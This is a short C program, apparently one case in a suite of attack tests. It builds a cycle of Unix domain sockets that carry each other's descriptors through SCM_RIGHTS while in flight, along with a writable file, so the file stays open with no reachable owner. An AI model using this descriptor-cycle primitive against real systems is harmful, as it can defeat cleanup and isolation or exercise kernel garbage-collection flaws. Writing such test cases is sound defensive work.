/* cycle FILE: ends with two sockets in flight that carry each other, and with FILE open for writing in one of them. */
#include "attack.h"

#include <sys/socket.h>

static int send_fds(int to, const int *fds, size_t n)
{
    char byte = 'x', space[CMSG_SPACE(2 * sizeof(int))] = "";
    struct iovec io = {&byte, 1};
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = space, .msg_controllen = CMSG_SPACE(n * sizeof(int))};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(n * sizeof(int));
    memcpy(CMSG_DATA(c), fds, n * sizeof(int));
    return sendmsg(to, &m, 0) == 1 ? 0 : -1;
}

int main(int argc, char **argv)
{
    int a[2], b[2], file = argc == 2 ? open(argv[1], O_CREAT | O_WRONLY, 0644) : -1;
    if (file < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, a) < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, b) < 0)
        return setup_failed("sockets");
    const int first[] = {b[0], file}, second[] = {a[0], file};
    if (send_fds(a[1], first, 2) < 0 || send_fds(b[1], second, 2) < 0)
        return setup_failed("sendmsg");
    return 0;
}
